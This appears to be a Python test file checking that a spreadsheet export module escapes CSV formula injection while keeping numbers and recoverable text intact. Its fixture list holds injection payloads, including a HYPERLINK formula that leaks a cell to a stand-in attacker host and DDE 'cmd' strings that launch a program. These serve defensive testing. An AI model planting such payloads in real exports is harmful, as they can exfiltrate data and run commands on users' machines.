"""Downloads in a spreadsheet: no text is a formula, numbers are numbers, and every text can be had back."""

import io
import json
import math
import re

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import settings as settings_of_tests
from hypothesis import strategies as st

from dpviz.exports.spreadsheets import as_csv, escape_settings, safe_cell, without_formula_cells
from tests.formulas import formulas

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "x;=1+1",
    "x\r=1+1",
    "＝1+1",
    "-",
]
ALMOST = ["'=1+1", "x\n=1+1", 'x",=1+1']


@pytest.mark.parametrize("text", [*HOSTILE, *ALMOST])
def test_no_text_is_a_formula_in_a_cell_a_header_or_a_comment(text: str) -> None:
    frame = pd.DataFrame({text: [text, "plain"], "category": pd.Categorical([text, text]), "x": [-1.5, math.nan]})
    written = as_csv(frame, [f"label {text}, {text}", f"settings: {escape_settings(json.dumps([text, {'a': text}]))}"])
    assert not formulas(written)
    read = pd.read_csv(io.StringIO(written, newline=""), comment="#", lineterminator="\n")
    assert read["x"][0] == -1.5
    assert text in ALMOST or formulas(pd.DataFrame({"a": [text]}).to_csv(index=False)), "without it, it is one"


@pytest.mark.parametrize("text", ["-1.5", "+3", "1e-5", ".5", "-3e+10", "plain", "a-b", "a, b", "", "2020-01-01", "#"])
def test_numbers_and_other_texts_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == text


def test_numbers_of_a_table_stay_numbers() -> None:
    frame = pd.DataFrame({"x": [-1.5, np.inf, -np.inf, np.nan], "n": [-1, 2, 3, 4], "b": [True, False, True, True]})
    pd.testing.assert_frame_equal(without_formula_cells(frame), frame)
    mixed = without_formula_cells(pd.DataFrame({"a": ["=1", None, -2.5]}, dtype=object))["a"]
    assert mixed[0] == "'=1" and mixed[1] is None and mixed[2] == -2.5


def as_it_was(text: str) -> str:
    """The text that `as_text` was given: how the documents say that it can be had back."""
    return re.sub(r"(^|[;\t\r\n])'(?=[\s']*[=+\-@＝＋－＠])|^'(?='*[\t\r\n])", r"\1", text)


@settings_of_tests(deadline=None)
@given(st.text(alphabet="=+-@'\t\r\n;,\" a1＝", max_size=12))
def test_every_text_can_be_had_back(text: str) -> None:
    assert as_it_was(safe_cell(text)) == text


@settings_of_tests(deadline=None)
@given(st.lists(st.text(alphabet='=+-@\\\t;,"a ', max_size=8), max_size=3))
def test_settings_are_the_same_json(texts: list[str]) -> None:
    written = escape_settings(json.dumps({"names": texts, "bounds": [-1.0, -2]}))
    assert json.loads(written) == {"names": texts, "bounds": [-1.0, -2]}
    assert not formulas(f"# {written}\n")
